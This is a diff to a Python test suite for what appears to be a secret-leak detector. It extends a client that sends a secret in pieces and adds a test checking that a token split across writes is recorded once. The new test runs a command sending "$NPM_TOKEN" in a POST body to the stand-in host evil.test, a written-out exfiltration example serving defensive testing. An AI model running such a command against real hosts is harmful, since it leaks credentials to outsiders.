@@ -20,7 +20,8 @@ from test_tls import make_ca
 
 # A job's client: one request whose body carries the secret, sent in pieces.
 # argv: tls|tcp, host, port, secret, cut (0: two pieces, the secret cut in its middle;
-# n: n bytes a write), pause between writes (s). Prints SENT once every piece went.
+# n: n bytes a write; -1: the secret whole in one write, then a byte a write), pause between
+# writes (s). Prints SENT once every piece went.
 PIECES = r"""
 import os, socket, ssl, sys, time
 tls, host, port, secret = sys.argv[1] == "tls", sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
@@ -29,11 +30,14 @@ s = socket.create_connection((host, port))
 s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
 if tls:
     s = ssl.create_default_context(cafile=os.environ["CA"]).wrap_socket(s, server_hostname=host)
-body = b"t=" + secret + b"&end=1"
+body = b"t=" + secret + b"&end=1" + b"&pad=" + b"x" * 200
 s.sendall(b"POST /up HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n\r\n"
           % (host.encode(), port, len(body)))
 time.sleep(pause)
-if cut:
+if cut < 0:
+    whole = 2 + len(secret)
+    pieces = [body[:whole]] + [body[i:i + 1] for i in range(whole, len(body))]
+elif cut:
     pieces = [body[i:i + cut] for i in range(0, len(body), cut)]
 else:
     half = 2 + len(secret) // 2
@@ -160,6 +164,22 @@ class SplitSecrets(RwTestCase):
         self.assertTrue(self.srv.got(GHP))
         self.assertSplitLeak(run, "tls_write", "audit", secret="github", source="format")
         self.assertNowhere(run, GHP)
+
+    def test_whole_secret_then_small_writes_recorded_once(self):
+        """A secret whole in one write, then 200 one-byte writes: the kept bytes hold it for
+        the next writes' junctions, which must not find it again (observe records repeats at
+        counts 1, 2, 4, ...: a second find would be a second record)."""
+        for proto in ("tls", "tcp"):
+            with self.subTest(proto=proto):
+                self.srv.bodies.clear()
+                port = 8443 if proto == "tls" else 8080
+                run = self.job(f'python3 {self.pieces} {proto} evil.test {port} "$NPM_TOKEN" '
+                               f'-1 0.002; echo py=$?', mode="observe", tag=f"out-{proto}")
+                self.assertIn("py=0", run.stdout, run.stderr)
+                ev = self.leaks(run)
+                self.assertEqual(len(ev), 1, run.events)
+                self.assertEqual((ev[0]["secret"], ev[0]["offset"]), ("NPM_TOKEN", 2), ev[0])
+                self.assertNotIn("earlier", ev[0])
 
     # ------------------------------------------------------------ plain TCP segments
 
